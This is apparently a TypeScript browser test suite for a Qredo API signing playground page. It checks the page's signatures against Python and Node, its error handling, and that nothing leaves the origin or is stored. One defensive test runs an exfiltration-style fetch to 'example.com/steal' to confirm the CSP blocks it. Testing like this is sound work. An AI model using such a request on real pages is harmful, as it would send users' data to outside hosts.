/**
 * The playground page (issue 19, contract §6.1) in Debian's Chromium, driven by playwright-core: the
 * signatures it shows are checked against Python's `hmac` and node:crypto `sign`, every request
 * the page makes is recorded (none may leave its origin), and nothing may land in storage.
 */
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { generateKeyPairSync, sign as nodeSign } from 'node:crypto';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { chromium, type Browser, type Page } from 'playwright-core';
import { startPlayground, type Playground } from '../../src/cli/playground.js';
import { buildPlayground } from '../../scripts/build-playground.mjs';

const ROOT = fileURLToPath(new URL('../..', import.meta.url));
const CHROMIUM = '/usr/bin/chromium';
const TMP = mkdtempSync(join(tmpdir(), 'qredo-playground-'));
const SECRET = 'c2VjcmV0LWtleS1mb3ItdGhlLXBsYXlncm91bmQtdGVzdA'; // URL-safe, unpadded
const URL_TYPED = 'https://api.qredo.network/qapi/v1/wället/☃?note=café ok';
const BODY = '{"amount":"1"}\n';

let browser: Browser | undefined;
let server: Playground | undefined;
let page: Page;
const requests: string[] = [];

/** HMAC-SHA256 by Python's standard library alone (contract §1.1). */
function pythonHmac(input: string): string {
  return execFileSync(
    'python3',
    [
      '-c',
      'import base64,hashlib,hmac,sys; s=sys.argv[1]; k=base64.urlsafe_b64decode(s + "=" * (-len(s) % 4)); ' +
        'sys.stdout.write(base64.urlsafe_b64encode(hmac.new(k, sys.stdin.buffer.read(), hashlib.sha256).digest()).rstrip(b"=").decode())',
      SECRET,
    ],
    { input: Buffer.from(input, 'utf8') },
  ).toString();
}

const text = (id: string) => page.locator(`#${id}`).textContent();

test.before(async () => {
  if (!existsSync(CHROMIUM)) throw new Error('Chromium missing: apt-get install -y chromium');
  const { file } = await buildPlayground(TMP);
  assert.ok(file.endsWith('index.html'));
  server = await startPlayground({ dir: TMP });
  browser = await chromium.launch({
    executablePath: CHROMIUM,
    args: [
      '--headless',
      '--no-sandbox',
      '--disable-gpu',
      '--disable-background-networking',
      '--disable-component-update',
      '--no-first-run',
    ],
  });
  page = await browser.newPage({ viewport: { width: 1200, height: 1000 } });
  page.on('request', (request) => requests.push(request.url()));
  await page.goto(server.url);
});

test('playground: a Unicode URL and a body ending in a newline sign as Python hmac does', async () => {
  await page.selectOption('#scheme', 'api');
  await page.fill('#api-key', 'key-1');
  await page.fill('#secret', SECRET);
  await page.fill('#method', 'post');
  await page.fill('#url', URL_TYPED);
  await page.fill('#body', BODY);
  await page.fill('#timestamp', '1647356399');
  const href = new URL(URL_TYPED).href; // what fetch sends, hence what is signed (contract §1.4)
  const expected = pythonHmac(`1647356399POST${href}${BODY}`);
  await page.waitForFunction(
    (sig) => document.getElementById('signature')?.textContent === sig,
    expected,
  );
  assert.is(await text('signature'), expected);
  assert.is(await text('error'), '');
  assert.is(await text('signing-input'), `1647356399POST${href}{"amount":"1"}\\n`);
  assert.match(
    (await text('signing-input-hex'))!,
    /^00000000  31 36 34 37 33 35 36 33  39 39 50 4f 53 54 68 74  \|1647356399POSTht\|/,
  );
  assert.is(
    await text('headers'),
    `qredo-api-key: key-1\nqredo-api-ts: 1647356399\nqredo-api-sig: ${expected}`,
  );
  assert.match((await text('curl'))!, new RegExp(`-H 'qredo-api-sig: ${expected}'`));
});

test('playground: pasted headers verify; a wrong signature is marked byte by byte', async () => {
  const good = (await text('headers'))!;
  await page.fill('#received-headers', good);
  await page.waitForFunction(() => document.getElementById('verify-result')?.className === 'ok');
  const sig = (await text('signature'))!;
  const flipped = sig.slice(0, 10) + (sig[10] === 'A' ? 'B' : 'A') + sig.slice(11);
  await page.fill('#received-headers', good.replace(sig, flipped));
  await page.waitForFunction(() => document.getElementById('verify-result')?.className === 'bad');
  assert.match((await text('verify-result'))!, /MISMATCH/);
  const marks = await page.locator('#verify-detail mark').allTextContents();
  assert.equal(marks, [sig[10], flipped[10]]);
  // A signing input another client produced from pretty-printed JSON: the space is marked.
  await page.fill('#received-headers', '');
  const href = new URL(URL_TYPED).href;
  await page.fill('#received-input', `1647356399POST${href}{"amount": "1"}\n`);
  await page.waitForFunction(() => document.querySelectorAll('#verify-detail mark').length > 0);
  const byteAt = Buffer.byteLength(`1647356399POST${href}{"amount":`);
  assert.match(
    (await page.locator('#verify-detail').textContent())!,
    new RegExp(`signing input: differ from byte ${byteAt} `),
  );
  assert.equal(await page.locator('#verify-detail mark').first().textContent(), '"');
  await page.fill('#received-input', '');
});

test('playground: the Partner API signature equals node:crypto sign', async () => {
  const { privateKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
  const pem = privateKey.export({ type: 'pkcs1', format: 'pem' }) as string;
  await page.selectOption('#scheme', 'partner');
  await page.fill('#private-key', pem);
  await page.fill('#url', 'https://play-api.qredo.network/api/v1/p/company');
  await page.fill('#body', '{"name":"ACME"}\n');
  await page.fill('#nonce', '42');
  const expected = nodeSign(
    'sha256',
    Buffer.from('42https://play-api.qredo.network/api/v1/p/company{"name":"ACME"}\n'),
    privateKey,
  ).toString('base64url');
  await page.waitForFunction(
    (sig) => document.getElementById('signature')?.textContent === sig,
    expected,
    { timeout: 15_000 },
  );
  assert.match((await text('headers'))!, /^x-api-key: key-1\nx-sign: .{342}\nx-nonce: 42$/);
  await page.fill('#nonce', '');
});

test('playground: a bad secret shows a typed error and clears the outputs; the secret is not echoed', async () => {
  await page.selectOption('#scheme', 'api');
  await page.fill('#secret', 'not base64 ***');
  await page.waitForFunction(() =>
    document.getElementById('error')?.textContent?.startsWith('INVALID_SECRET'),
  );
  assert.is(await text('signature'), '');
  assert.not.ok((await text('error'))!.includes('***'));
  await page.fill('#secret', SECRET);
  await page.fill('#url', URL_TYPED);
  await page.fill('#body', BODY);
  await page.waitForFunction(() => document.getElementById('error')?.textContent === '');
});

test('playground (attack): the CSP refuses a request to another origin; none was made; nothing stored', async () => {
  const outcome = await page.evaluate(() =>
    fetch('https://example.com/steal?x=1').then(
      () => 'sent',
      () => 'blocked',
    ),
  );
  assert.is(outcome, 'blocked');
  const origin = new URL(server!.url).origin;
  const foreign = requests.filter((u) => new URL(u).origin !== origin);
  assert.equal(foreign, [], `requests left the origin: ${foreign.join(', ')}`);
  const stored = await page.evaluate(async () => ({
    local: localStorage.length,
    session: sessionStorage.length,
    cookies: document.cookie,
    databases: (await indexedDB.databases()).length,
  }));
  assert.equal(stored, { local: 0, session: 0, cookies: '', databases: 0 });
  const response = await page.request.get(server!.url);
  const csp = response.headers()['content-security-policy'];
  assert.match(csp, /default-src 'none'/);
  assert.match(csp, /connect-src 'none'/);
  assert.match(csp, /frame-ancestors 'none'/);
});

test('playground: the static build works opened as a file, with no request at all', async () => {
  const filePage = await browser!.newPage();
  const seen: string[] = [];
  filePage.on('request', (r) => seen.push(r.url()));
  try {
    await filePage.goto(`file://${join(TMP, 'index.html')}`);
    await filePage.fill('#api-key', 'key-1');
    await filePage.fill('#secret', SECRET);
    await filePage.fill('#method', 'POST');
    await filePage.fill('#url', URL_TYPED);
    await filePage.fill('#body', BODY);
    await filePage.fill('#timestamp', '1647356399');
    const expected = pythonHmac(`1647356399POST${new URL(URL_TYPED).href}${BODY}`);
    await filePage.waitForFunction(
      (sig) => document.getElementById('signature')?.textContent === sig,
      expected,
    );
    assert.equal(seen, [`file://${join(TMP, 'index.html')}`]);
  } finally {
    await filePage.close();
  }
});

// Writes docs/playground.png only when asked (UPDATE_SCREENSHOT=1), so that a test run leaves the
// work tree as it found it.
test('playground: screenshot for the docs', async () => {
  await page.selectOption('#scheme', 'api');
  await page.fill(
    '#received-headers',
    (await text('headers'))!.replace(/qredo-api-sig: (.{5})/, 'qredo-api-sig: XXXXX'),
  );
  await page.waitForFunction(() => document.getElementById('verify-result')?.className === 'bad');
  const shot = await page.screenshot({ fullPage: true });
  assert.ok(shot.length > 1000, 'a screenshot was taken');
  if (process.env.UPDATE_SCREENSHOT === '1') {
    mkdirSync(join(ROOT, 'docs'), { recursive: true });
    writeFileSync(join(ROOT, 'docs', 'playground.png'), shot);
  }
});

test.after(async () => {
  await browser?.close();
  await server?.close();
  rmSync(TMP, { recursive: true, force: true });
});

test.run();
